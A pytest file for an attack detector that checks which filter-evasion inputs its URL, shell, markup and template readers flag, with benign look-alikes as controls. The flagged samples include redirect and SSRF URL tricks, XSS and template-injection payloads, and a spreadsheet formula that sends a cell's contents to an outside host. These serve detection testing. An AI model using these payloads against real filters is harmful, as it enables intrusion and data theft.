"""Forms that only serve to get past a filter, and what looks like them."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from logvision.detect.fusion import Evidence
from logvision.detect.verify import markup, shell, template, url

Reader = Callable[[str], list[Evidence]]


def strength(reader: Reader, text: str) -> float:
    return max((piece.strength for piece in reader(text)), default=0.0)


@pytest.mark.parametrize(
    ("reader", "text"),
    [
        (url.verify, "http://www.example.org.127.0.0.1:8080"),
        (url.verify, "//10.1.2.3.127.0.0.1/"),
        (url.verify, "hthttp://tp://example.org"),
        (url.verify, "//216.58.214.206"),
        (url.verify, "http:\n\rexample.org"),
        (url.verify, "/example.org//../x"),
        (url.verify, "https:/example.net"),
        (url.verify, "https:///login.example.net/x"),
        (url.verify, r"https:/\example.net"),
        (url.verify, "https://.example.net"),
        (url.verify, r"\example.net/.."),
        (url.verify, "\t/example.net"),
        (url.verify, "<>//example.net"),
        (url.verify, "  ///example.net"),
        (url.verify, "\x00https://example.net/"),
        (url.verify, "http://example.net#.example.org/"),
        (url.verify, "@https://example.net"),
        (url.verify, "example\xe3\x80\x82net"),
        (shell.verify, '=IMPORTXML(CONCAT("http://example.net", A2), "//a")'),
        (markup.verify, "ab:8>l<uz;99\"'ae"),
        (markup.verify, r"\074\151\155\147\040x"),
        (shell.verify, r"\u\n\a\m\e -s"),
        (markup.verify, "onmouseover=prompt.call(null,1) class=x"),
        (markup.verify, "'-print(1)-'"),
        (markup.verify, "{{-function(){this.alert(1)}()}}"),
        (template.verify, "<# 44*66>"),
        (template.verify, "{@44*66}"),
        (template.verify, '${{"{{"}}44*66{{"}}"}}'),
        (template.verify, "{(98/0).x}"),
        (template.verify, "{{(10,36*37)|e}}"),
        (template.verify, '#if(false)#include("Y:/A:/true")#end'),
        (template.verify, "|#{typeof(34)+56}"),
        (template.verify, "(45+46).toString()+1"),
        (template.verify, "{% assign x = 7 %}"),
        (template.verify, "@{var x = 7*7;}"),
    ],
)
def test_a_form_that_gets_past_a_filter_is_read(reader: Reader, text: str) -> None:
    assert strength(reader, text) >= 0.5


@pytest.mark.parametrize(
    ("reader", "text"),
    [
        (url.verify, "http://1.2.3.4:80/"),
        (url.verify, "//192.168.1.5/share"),
        (url.verify, "//cdn.example.org/x.js"),
        (url.verify, "https://example.org/http://example.com"),
        (url.verify, "http:///index.php"),
        (url.verify, "http:/www.example.org/"),
        (url.verify, "http:/www.example"),
        (url.verify, "@john.doe"),
        (url.verify, r"DOMAIN\user"),
        (url.verify, "https://example.org/a//b"),
        (markup.verify, "x<3"),
        (markup.verify, 'a > b < c, "it\'s"'),
        (markup.verify, r"C:\100\files"),
        (shell.verify, r"C:\a\b\c\d"),
        (markup.verify, 'print("hello")'),
        (template.verify, "#if(DEBUG) x #endif"),
        (template.verify, "{1/2}"),
        (template.verify, "{{price * quantity}}"),
    ],
)
def test_an_ordinary_form_is_none(reader: Reader, text: str) -> None:
    assert strength(reader, text) < 0.5
